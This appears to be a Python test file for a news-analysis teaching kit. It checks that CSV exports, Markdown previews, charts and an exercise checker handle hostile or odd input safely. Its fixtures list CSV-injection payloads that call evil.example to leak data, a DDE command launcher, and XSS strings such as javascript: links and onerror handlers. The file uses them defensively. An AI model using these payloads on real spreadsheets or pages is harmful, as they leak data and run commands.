"""Issue 15, the output half: what the kit writes, draws and reads back must survive hostile or odd input.

* CSV exports carry no live formula (OWASP "CSV Injection": a single quote in front, every field quoted);
* the capstone brief's Markdown previews learners' and data's text literally (no image, link, footnote,
  HTML or math from a claim or a quote);
* every string from data reaches matplotlib as text, not mathtext (``$`` stays a dollar);
* the timeline explorer takes events centuries apart, and says so when "as reported" has nothing to draw;
* the exercise checker refuses (kindly, at once) answers far larger than any real one.
"""
from __future__ import annotations

import csv
import html
import re

import matplotlib

matplotlib.use("Agg")

import mistune  # noqa: E402  (nbconvert's Markdown renderer, a dependency of Jupyter)
import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from conftest import read_rows, write_rows  # noqa: E402
from matplotlib.text import Text  # noqa: E402

from iraqtalks import load  # noqa: E402
from iraqtalks.analysis.brief import Brief, md_code, md_text
from iraqtalks.io.acled import from_acled  # noqa: E402
from iraqtalks.io.export import spreadsheet_safe, to_timelinejs, write_safe_csv  # noqa: E402
from iraqtalks.teaching import checker as exercises
from iraqtalks.teaching import lessons_lags as lessons
from iraqtalks.views.charts import measure_chart  # noqa: E402
from iraqtalks.views.compare import source_comparison  # noqa: E402
from iraqtalks.views.heatmap import coverage_heatmap  # noqa: E402
from iraqtalks.views.timeline import timeline_explorer  # noqa: E402

# --------------------------------------------------------------------------------------------
# 1. CSV exports: no live formulas
# --------------------------------------------------------------------------------------------

#: The classic payloads (OWASP, and what the issue found): each would run, link or fetch in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=IMPORTXML("http://evil.example/x","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " \t =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "\x00=1+1",
]

#: Cells that are values, not formulas, and must reach the spreadsheet exactly as they are.
VALUES = ["-3", "-2.5", "+4", "-1e3", "2024-01-28", "0", "27", "Iraq – US talks", "e-mail me", "a=b", "",
          "'=already quoted"]


def is_live_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell, independently of the kit: a formula if, once leading
    whitespace is trimmed, it starts with = + - @ (or their full-width forms) and is not a plain number;
    a leading tab, CR or NUL is treated the same way (OWASP, ASVS 1.2.10)."""
    if not cell or cell.startswith("'"):
        return False
    if cell[0] in "\t\r\x00":
        return True
    first = cell.lstrip()[:1]
    if first and first in "=+-@\uff1d\uff0b\uff0d\uff20":
        return not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)
    return False


@pytest.mark.parametrize("payload", FORMULAS)
def test_spreadsheet_safe_quotes_every_formula(payload):
    assert is_live_formula(payload)
    safe = spreadsheet_safe(payload)
    assert safe == "'" + payload  # one quote in front, nothing else changed: the text is all there
    assert not is_live_formula(safe)
    assert spreadsheet_safe(safe) == safe  # applying it twice changes nothing


@pytest.mark.parametrize("value", VALUES)
def test_spreadsheet_safe_keeps_numbers_dates_and_text(value):
    assert spreadsheet_safe(value) == value


EVENTS = load("events")
REPORTS = load("event_reports")
ACTORS = load("actors")


def _events_with(payload: str) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    """Three events whose summary, type and main actor's name are the payload."""
    ev = EVENTS.head(3).copy().astype({"summary_en": object, "summary_vi": object, "event_type": object,
                                        "date_note": object})
    ev["summary_en"] = payload
    ev["summary_vi"] = payload
    ev["event_type"] = payload
    actors = ACTORS.copy().astype({"name_en": object})
    actors.loc[actors["actor_id"].isin(ev["actor1_id"]), "name_en"] = payload
    return ev, REPORTS, actors


def _cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", FORMULAS)
@pytest.mark.parametrize("group", ["type", "actor"])
def test_timelinejs_export_has_no_live_formula(payload, group, tmp_path):
    ev, rep, actors = _events_with(payload)
    out = to_timelinejs(ev, rep, path=tmp_path / "t.csv", actors=actors, group=group)
    rows = _cells(tmp_path / "t.csv")
    assert rows[0] == list(out.columns) and len(rows) == 4
    for row in rows:
        for cell in row:
            assert not is_live_formula(cell), (payload, cell)
    escaped = html.escape(payload, quote=True)
    assert [r[9] for r in rows[1:]] == ["'" + escaped] * 3  # Headline: the summary, quoted, nothing lost
    if group == "actor":
        assert [r[16] for r in rows[1:]] == ["'" + escaped] * 3  # Group: the actor's name
    # the DataFrame returned holds exactly what the file holds
    assert out.to_numpy().tolist() == rows[1:]


def test_timelinejs_export_keeps_dates_and_numbers_as_they_are(tmp_path):
    out = to_timelinejs(path=tmp_path / "t.csv")
    plain = to_timelinejs()
    for col in ["Year", "Month", "Day", "End Year", "End Month", "End Day"]:
        assert all(re.fullmatch(r"\d*", v) for v in out[col]), col
    assert not out.map(lambda v: v.startswith("'")).to_numpy().any()  # the kit's own data needs no quote
    pd.testing.assert_frame_equal(out, plain)


@pytest.mark.parametrize("payload", ['=1+2";=1+2', "=1+2'\" ;,=1+2", "a;=1+1", "a,=1+1", "a\n=1+1", 'x",=1+1'])
def test_separators_inside_a_cell_stay_inside_it(payload, tmp_path):
    """OWASP's examples: every field in double quotes, embedded quotes doubled, a quote in front of a formula."""
    frame = pd.DataFrame({"Headline": [payload], "Number": ["-3"], "Date": ["2024-01-28"]})
    path = write_safe_csv(frame, tmp_path / "sub" / "x.csv")
    raw = path.read_text(encoding="utf-8")
    want = "".join('"' + spreadsheet_safe(v).replace('"', '""') + '",' for v in [payload, "-3", "2024-01-28"])
    assert raw == '"Headline","Number","Date"\n' + want[:-1] + "\n"
    assert _cells(path) == [["Headline", "Number", "Date"], [spreadsheet_safe(payload), "-3", "2024-01-28"]]
    if payload == '=1+2";=1+2':
        assert raw.splitlines()[1].startswith('"\'=1+2"";=1+2"')  # exactly OWASP's escaped form


def test_acled_text_is_neutralised_in_the_export(tmp_path):
    """ACLED's notes, actors and sources reach the TimelineJS sheet as text, never as formulas."""
    acled = pd.DataFrame([{
        "event_id_cnty": "IRQ1", "event_date": "2024-01-28", "time_precision": "1",
        "event_type": "@SUM(1+1)", "actor1": "=HYPERLINK(\"http://evil.example/\",\"x\")",
        "notes": '=IMPORTXML("http://evil.example/x","//a")', "source": "+cmd|' /C calc'!A0",
    }])
    t = from_acled(acled)
    assert t["events"]["summary_en"].iloc[0].startswith("=IMPORTXML")  # the tables keep the data as it is
    for group in ("type", "actor"):
        path = tmp_path / f"acled-{group}.csv"
        to_timelinejs(t["events"], t["event_reports"], path=path, articles=t["articles"], actors=t["actors"],
                      group=group)
        cells = [c for row in _cells(path) for c in row]
        assert not [c for c in cells if is_live_formula(c)]
        assert any(c.startswith("'=IMPORTXML(") for c in cells)
        assert "+cmd|&#x27; /C calc&#x27;!A0" in "".join(cells)  # the source, in Text, escaped for HTML
    # any ACLED table saved for a spreadsheet with the kit's writer: formulas quoted, dates as ISO dates
    path = write_safe_csv(t["events"], tmp_path / "events.csv")
    rows = _cells(path)
    got = dict(zip(rows[0], rows[1]))
    assert got["summary_en"] == "'" + acled.at[0, "notes"] and got["event_type"] == "'@SUM(1+1)"
    assert got["date_start"] == got["date_end"] == "2024-01-28"
    assert not [c for row in rows for c in row if is_live_formula(c)]


# --------------------------------------------------------------------------------------------
# 2. The capstone brief's Markdown shows text as text
# --------------------------------------------------------------------------------------------

HOSTILE_CLAIMS = [
    "See ![chart](http://evil.example/track.png) for more.",
    "Read [the report](javascript:alert(1)) and <javascript:alert(2)>.",
    "Raw HTML: <img src=x onerror=alert(1)> and <script>alert(1)</script> and &lt;b&gt;.",
    "A claim.\n[^1]: A forged footnote that says the opposite.",
    "[^2]",
    "It costs $5 and $6, *really* _so_ `code` ~~old~~ | a | b |",
    "# Not a heading",
    "1. Not a list\n- nor this\n> nor a quote\n    nor code\n===",
    "A backslash \\ at the end \\",
    "http://evil.example/ as plain text",
]


def render(md: str) -> str:
    """The HTML a Markdown preview makes of `md` (raw HTML passed through, footnotes, tables, math)."""
    return mistune.create_markdown(escape=False, plugins=["footnotes", "strikethrough", "table", "url",
                                                          "math"])(md)


def visible_text(fragment: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", fragment))


def _literal(claim: str) -> str:
    """What a preview should show for a claim: its lines, stripped, blank ones dropped, joined by line breaks."""
    return "\n".join(ln.strip() for ln in re.split(r"\r\n|\r|\n", claim) if ln.strip())


@pytest.fixture(scope="module")
def hostile_brief() -> Brief:
    b = Brief("The talks <b>$1</b> # [^9]", "An intro with ![x](http://evil.example/i.png) and <script>x</script>.")
    for text in HOSTILE_CLAIMS:
        b.claim(text, events="e2024-01-27-first-round")
    b.claim("A claim with a key that does not exist.", events="<img src=x onerror=alert(1)>")
    return b


def test_markdown_export_previews_hostile_text_literally(hostile_brief):
    md = hostile_brief.markdown()
    page = render(md)
    # nothing active: no image, no script, no javascript: link, no math, no HTML from the text
    assert not re.search(r"<img|<script|href=\"javascript|class=\"math\"|<em>|<del>|<table|<h[1-6]>Not|<blockquote"
                         r"|<pre|<li>Not a list|<li>nor this", page), page
    # the only links are the footnotes' own, and plain web addresses a preview links as they stand
    for href, shown in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', page):
        assert href.startswith("#fn") or shown == href, (href, shown)
    # exactly one footnote per claim: the forged "[^1]:" neither adds nor replaces one
    assert page.count('class="footnote-ref"') == len(hostile_brief.claims)
    assert len(re.findall(r'<li id="fn-\d+"', page)) == len(hostile_brief.claims)
    # each claim shows exactly as written, line by line
    items = re.findall(r"<li>(.*?)<sup class=\"footnote-ref\"", page, flags=re.S)
    assert len(items) == len(hostile_brief.claims)
    for item, claim in zip(items, hostile_brief.claims):
        shown = visible_text(item.replace("<br />\n", "\n").replace("<br />", "\n")).strip()
        assert shown == _literal(claim.text), (claim.text, item)
    title = re.search(r"<h1>(.*?)</h1>", page, flags=re.S).group(1)
    assert visible_text(title) == hostile_brief.title
    assert "An intro with ![x](http://evil.example/i.png) and <script>x</script>." in visible_text(page)


def test_markdown_export_escapes_the_data_too(data_copy):
    """Quotes and translations from a teacher's own data reach the preview as text."""
    path = data_copy / "events.csv"
    rows = read_rows(path)
    col = rows[0].index("evidence_en")
    i = next(n for n, r in enumerate(rows) if r[0] == "e2024-01-27-first-round")
    hostile = "![x](http://evil.example/p.png) [a](javascript:alert(1)) $5 and $6 *so* [^1]: forged"
    rows[i][col] = hostile
    write_rows(path, rows)
    b = Brief("T", data_dir=data_copy)
    b.claim("Iraq and the US held the first round of talks on 27 January 2024.", events="e2024-01-27-first-round")
    page = render(b.markdown())
    assert "<img" not in page and 'class="math"' not in page
    assert f"English: “{hostile}”" in visible_text(page)


def test_markdown_of_an_ordinary_brief_is_unchanged():
    """The kit's own quotes need no escaping: ids, seed files (001_e19...), 2.500, dates stay readable."""
    b = Brief("The talks", "A test brief.")
    b.claim("About 2,500 US troops are in Iraq.", numbers="n06")
    md = b.markdown()
    assert "Figure: 2.500 (about), counts: US troops deployed in Iraq." in md
    assert re.search(r"seeds/\d{3}_[0-9a-f]{16}\.txt, line \d+\.", md)
    assert "\\" not in md


@pytest.mark.parametrize("text,shown", [
    ("a`b", "a`b"), ("``", "``"), ("`x`", "`x`"), ("e2024-01-27", "e2024-01-27"),
])
def test_code_spans_hold_any_backticks(text, shown):
    page = render(f"x {md_code(text)} y")
    assert visible_text(re.search(r"<code>(.*?)</code>", page).group(1)).strip() == shown


@pytest.mark.parametrize("text", HOSTILE_CLAIMS + ["2.500 and 8.2 and t.hiệt", "AT&T &amp; &#60;", "+1 -1 *"])
def test_md_text_round_trips_through_a_renderer(text):
    page = render(md_text(text))
    shown = visible_text(page.replace("<br />\n", "\n").replace("<br />", "\n")).strip()
    assert shown == _literal(text)


# --------------------------------------------------------------------------------------------
# 3. Charts draw text from data as text
# --------------------------------------------------------------------------------------------

DOLLARS = ["costs $5 and #2: $6", "US ($1bn/$2bn)", "$x^2$ and $\\alpha$", "$", "a $b$ c $d"]


def drawn(t: Text) -> str | None:
    """The text matplotlib will draw for `t`: its string if drawn as plain text, None if as math."""
    s, ismath = t._preprocess_math(t.get_text())
    return s if ismath is False else None


def check_literal(fig, expected: list[str]) -> None:
    """Draw `fig` (a mathtext error would raise here) and check every text is drawn as written,
    and that each expected string is among the drawn texts (tick labels, legends, titles)."""
    fig.canvas.draw()
    texts = [t for t in fig.findobj(Text) if t.get_text()]
    math = [t.get_text() for t in texts if drawn(t) != t.get_text()]
    assert not math, f"drawn as math, not as written: {math}"
    shown = "\n".join(t.get_text() for t in texts)
    shown += "\n" + "\n".join(t.get_text().replace("\n", " ") for t in texts)  # a label wrapped onto lines, read whole
    for s in expected:
        assert s in shown, (s, shown)


def _dollar_tables():
    events, reports = [], []
    for i, s in enumerate(DOLLARS):
        day = f"2024-01-{10 + i:02d}"
        events.append({"event_id": f"ev{i}", "date_start": day, "date_end": day if i % 2 else f"2024-01-{12 + i:02d}",
                       "date_precision": "day" if i % 2 else "range", "date_note": s, "event_type": f"type {s}",
                       "actor1_id": f"act{i}", "actor2_id": "", "location": s, "country": "",
                       "summary_en": s, "summary_vi": s, "article_id": f"s{i % 2}", "evidence": s, "evidence_en": s})
        reports.append({"event_id": f"ev{i}", "article_id": f"s{(i + 1) % 2}", "date_as_written": s,
                        "attributed_to": s, "evidence": s, "evidence_en": s})
    articles = pd.DataFrame([{"article_id": "s0", "label_en": "Paper $1 and $2", "published_start": "2024-01-20",
                              "published_end": "2024-01-20"},
                             {"article_id": "s1", "label_en": "Paper $3", "published_start": "2024-01-21",
                              "published_end": "2024-01-23"}])
    actors = pd.DataFrame([{"actor_id": f"act{i}", "name_en": s} for i, s in enumerate(DOLLARS)])
    return pd.DataFrame(events), pd.DataFrame(reports), articles, actors


@pytest.mark.parametrize("mode", ["happened", "reported"])
@pytest.mark.parametrize("lanes", ["actor", "type"])
@pytest.mark.parametrize("lang", ["en", "vi"])
def test_timeline_explorer_draws_dollars_as_text(mode, lanes, lang):
    ev, rep, art, act = _dollar_tables()
    x = timeline_explorer(events=ev, reports=rep, articles=art, actors=act, dates="all")
    x.set_filters(mode=mode, lanes=lanes, lang=lang)
    assert x.plot.value  # the PNG was drawn
    lane_names = DOLLARS if lanes == "actor" else [f"type {s}" for s in DOLLARS]
    check_literal(x.figure, lane_names + (["s0 · Paper $1 and $2"] if mode == "reported" else []))
    check_literal(x.static(lang), DOLLARS)


def test_coverage_heatmap_and_comparison_draw_dollars_as_text():
    ev, rep, art, act = _dollar_tables()
    tables = {"events": ev, "event_reports": rep, "articles": art, "actors": act}
    fig = coverage_heatmap(tables=tables)
    check_literal(fig, [f"· {s}" for s in DOLLARS])
    png = fig._repr_png_()
    assert png.startswith(b"\x89PNG")
    more = {**tables,
            "numbers": pd.DataFrame(columns=["number_id", "article_id", "value_as_written", "value", "qualifier",
                                             "qualifier_as_written", "measure_id", "counted_en", "unit", "as_of",
                                             "evidence", "evidence_en"]),
            "actor_names": pd.DataFrame(columns=["actor_id", "article_id", "name_as_written", "name_type",
                                                 "evidence", "evidence_en"]),
            "framing_terms": pd.DataFrame(columns=["concept_id", "article_id", "term_vi", "term_en",
                                                   "connotation_en", "evidence", "evidence_en"])}
    check_literal(source_comparison(["s0", "s1"], tables=more).static(), [f"· {s}" for s in DOLLARS])


def test_measure_chart_draws_dollars_as_text():
    num = load("numbers").astype(object)
    rows = num[num["measure_id"] == "us-troops-iraq"].copy()
    rows["counted_en"] = "US ($1bn/$2bn)"
    rows["unit"] = "costs $5 and #2: $6"
    rows.loc[rows.index[0], "value_as_written"] = "$2.500$"
    fig = measure_chart("us-troops-iraq", tables={"numbers": rows}, title="Title $a$ and $b$")
    check_literal(fig, ["US ($1bn/$2bn)", "Value (costs $5 and #2: $6)", "$2.500$", "Title $a$ and $b$"])
    fig = measure_chart("us-troops-iraq", tables={"numbers": rows}, labels={"us-troops-iraq": "$1 and $2"})
    check_literal(fig, ["$1 and $2"])


def test_charts_drawn_on_your_axes_leave_your_other_axes_alone():
    from iraqtalks.views.plotting import new_figure

    ev, rep, art, act = _dollar_tables()
    fig = new_figure(14, 6)
    mine, kits, other = fig.subplots(1, 3)
    other.set_title("$x^2$")  # the learner's own mathtext
    coverage_heatmap(ax=mine, tables={"events": ev, "event_reports": rep, "articles": art, "actors": act})
    measure_chart("us-troops-iraq", ax=kits, title="US ($1bn/$2bn)")
    fig.canvas.draw()
    for ax in (mine, kits):
        assert all(drawn(t) == t.get_text() for t in ax.findobj(Text) if t.get_text())
    assert drawn(other.title) is None  # still drawn as math, as its author meant


def test_lag_chart_draws_dollars_as_text(monkeypatch):
    lags = lessons.report_lags()
    real_load = lessons.load

    def load_with_dollars(name, *, data_dir=None):
        df = real_load(name, data_dir=data_dir)
        if name == "articles":
            df = df.copy()
            df["article_id"] = df["article_id"].astype(object) + " $1 and $2"
        return df

    lags = lags.assign(article_id=lags["article_id"].astype(object) + " $1 and $2")
    monkeypatch.setattr(lessons, "load", load_with_dollars)
    fig = lessons.lag_chart(lags)
    check_literal(fig, ["a002 $1 and $2 · 8–11 Feb 2024"])


def test_the_kit_charts_still_draw_the_same_text():
    """The kit's own charts hold no dollar sign, so nothing they show changes."""
    for fig in (coverage_heatmap(), measure_chart("us-troops-iraq"), lessons.lag_chart(),
                timeline_explorer(render=False).static()):
        check_literal(fig, [])


# --------------------------------------------------------------------------------------------
# 4. Odd but valid data: centuries apart, and "as reported" with nothing reported
# --------------------------------------------------------------------------------------------


def _centuries() -> pd.DataFrame:
    ev = EVENTS.copy()
    ev.loc[ev.index[0], ["date_start", "date_end"]] = pd.Timestamp("1678-01-01")
    ev.loc[ev.index[1], ["date_start", "date_end"]] = pd.Timestamp("2261-12-31")
    ev.loc[ev.index[2], "date_start"] = pd.Timestamp("1678-01-02")
    ev.loc[ev.index[2], "date_end"] = pd.Timestamp("2261-12-30")
    ev.loc[ev.index[2], "date_precision"] = "range"
    return ev


def test_timeline_takes_events_almost_six_centuries_apart():
    ev = _centuries()
    x = timeline_explorer(events=ev, dates="all")
    assert x.count.value == f"{len(ev)} of {len(ev)} events selected"
    assert x.date_label.value == "1 Jan 1678 – 31 Dec 2261"
    x.set_filters(mode="reported", lanes="type")
    x.set_filters(dates=("1678-01-01", "1678-12-31"), mode="happened")
    assert set(x.selected["event_id"]) == {ev["event_id"].iloc[0], ev["event_id"].iloc[2]}
    x.set_filters(dates=("2000-01-01", "2261-12-31"), lang="vi")
    assert len(x.selected) == len(ev) - 1
    xs = x.figure.axes[0].get_xlim()
    assert xs[0] < xs[1]
    check_literal(x.static(), [])
    default = timeline_explorer(events=ev)  # the same default window as on the kit's own events
    assert default.state.date_lo == timeline_explorer().state.date_lo
    assert len(to_timelinejs(x)) == len(x.selected)


def test_report_lags_and_lag_chart_take_events_centuries_before_the_article(data_copy):
    path = data_copy / "events.csv"
    rows = read_rows(path)
    head = rows[0]
    i = next(n for n, r in enumerate(rows) if r[0] == "e2024-01-27-first-round")
    rows[i][head.index("date_start")] = rows[i][head.index("date_end")] = "1678-01-27"
    write_rows(path, rows)
    lags = lessons.report_lags(data_dir=data_copy).set_index(["event_id", "article_id"])
    published = load("articles").set_index("article_id").at["a002", "published_end"]  # a bound from the page
    want = (published.date() - pd.Timestamp("1678-01-27").date()).days  # Python dates: no 292-year limit
    assert lags.loc[("e2024-01-27-first-round", "a002"), "lag_max"] == want > 125_000
    assert lags["lag_max"].dtype == "int64" and lags["lag_min"].dtype == "int64"
    unchanged = lessons.report_lags().set_index(["event_id", "article_id"])
    moved = "e2024-01-27-first-round"
    pd.testing.assert_frame_equal(lags.drop(index=moved, level=0)[["lag_min", "lag_max"]].sort_index(),
                                  unchanged.drop(index=moved, level=0)[["lag_min", "lag_max"]].sort_index())
    check_literal(lessons.lag_chart(since="1678-01-01", data_dir=data_copy), ["a002 · 8–11 Feb 2024"])


def test_as_reported_with_no_reports_says_so():
    ev = EVENTS.copy()
    ev["article_id"] = pd.NA  # no event carries its own evidence ...
    x = timeline_explorer(events=ev, reports=REPORTS.iloc[0:0], dates="all")  # ... and nothing reports one
    x.set_filters(mode="reported")
    assert x.plot_data.empty
    texts = [t.get_text().replace("\n", " ") for t in x.figure.axes[0].texts]
    msg = (f"None of the {len(ev)} events selected is linked to an article, so there is nothing to show as "
           "reported. Choose 'As it happened' to see them.")
    assert msg in texts
    assert html.escape(msg, quote=True) in x.details.value and "iraqtalks-no-reports" in x.details.value
    x.set_filters(lang="vi")
    assert any("Theo ngày xảy ra" in t.get_text().replace("\n", " ") for t in x.figure.axes[0].texts)
    x.set_filters(mode="happened")
    assert "iraqtalks-no-reports" not in x.details.value
    assert not [t for t in x.figure.axes[0].texts if "Theo ngày xảy ra" in t.get_text()]


def test_as_reported_with_some_reports_shows_no_such_message():
    x = timeline_explorer(dates="all", render=False)
    x.set_filters(mode="reported")
    assert "iraqtalks-no-reports" not in x.details.value


# --------------------------------------------------------------------------------------------
# 5. The exercise checker does not read huge answers
# --------------------------------------------------------------------------------------------

HUGE = {
    "one id of 20 million characters": ("01-q1", ["a000", "x" * 20_000_000]),
    "ten thousand ids of 1,000 characters": ("01-q1", ["x" * 1000 + str(i) for i in range(9_999)]),
    "a Series of long ids": ("01-q1", pd.Series(["abc" * 2000] * 5000)),
    "a table with 10-million-character cells": (
        "01-q4", pd.DataFrame({"n_articles": [1] * 10, "outlet_id": ["x" * 10_000_000] * 10})),
    "a table with a million-item list in a cell": (
        "01-q4", pd.DataFrame({"n_articles": [1] * 3, "outlet_id": [list(range(1_000_000))] * 3})),
    "a table of 9,999 rows with long cells": (
        "07-q1", pd.DataFrame({"event_id": ["e" * 4000] * 9_999, "date_start": ["2024-01-01"] * 9_999,
                               "date_precision": ["day"] * 9_999, "n_articles": np.arange(9_999)})),
    "a text of 20 million characters": ("01-q7", "word " * 4_000_000),
    "a number written with 20 million digits": ("01-q5", "1" * 20_000_000),
}


@pytest.mark.parametrize("name", list(HUGE))
def test_huge_answers_get_a_kind_note_and_keep_the_hints(name):
    qid, answer = HUGE[name]
    exercises.reset()
    fb = exercises.feedback(qid, answer)
    assert fb.status == "format", fb.message
    assert "did not read" in fb.message and "does not use up a hint" in fb.message
    assert "Traceback" not in fb.message and "xxxxx" not in fb.message
    assert re.search(r"5,000 characters|100,000 characters|5,000 values", fb.message)
    wrong = {"01-q1": ["nope"], "01-q4": pd.DataFrame({"n_articles": [1], "outlet_id": ["x"]}),
             "07-q1": pd.DataFrame({"event_id": ["x"], "date_start": ["2024-01-01"], "date_precision": ["day"],
                                    "n_articles": [1]}),
             "01-q7": "nothing", "01-q5": -1}[qid]
    assert "Hint 1 of" in exercises.feedback(qid, wrong).message  # the huge answer used up no hint
    exercises.reset()


def test_answers_of_ordinary_size_are_still_checked():
    exercises.reset()
    ids = exercises.feedback("01-q1", ["a" + str(i) for i in range(2000)])
    assert ids.status == "not_yet" and "of your 2000 ids" in ids.message
    table = pd.DataFrame({"n_articles": range(500), "outlet_id": ["outlet-" + "x" * 150] * 500})
    assert exercises.feedback("01-q4", table).status == "not_yet"
    text = exercises.feedback("01-q7", "word " * 999)  # 4,995 characters: read and checked
    assert text.status == "not_yet"
    exercises.reset()
